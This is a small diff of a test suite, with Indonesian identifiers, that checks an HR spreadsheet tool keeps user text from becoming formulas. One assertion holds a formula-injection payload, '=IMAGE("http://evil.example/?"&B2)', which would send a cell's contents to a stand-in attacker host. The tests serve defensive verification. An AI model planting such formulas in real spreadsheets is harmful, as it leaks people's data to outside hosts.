@@ -86,7 +86,7 @@ describe('no text becomes a formula', () => {
     expect(tab[i][5]).toBe('=IMAGE("http://evil.example/?"&B2)');
     expect(tab[i][6]).toBe('+dokumen');
     const hasil = sheetValues(h.emulator, 'Hasil');
-    expect(hasil[rowOf(hasil, nipOf(2)) - 1][2]).toContain(EVIL_NAME);
+    expect(hasil[rowOf(hasil, nipOf(2)) - 1][2]).toBe(EVIL_NAME);
     // And HR is told, at the cell.
     expect(issuesOf(h).map(x => x.text)).toContainEqual(
       expect.stringMatching(new RegExp(`^Pegawai!B${r}: Nama diawali "="`)),
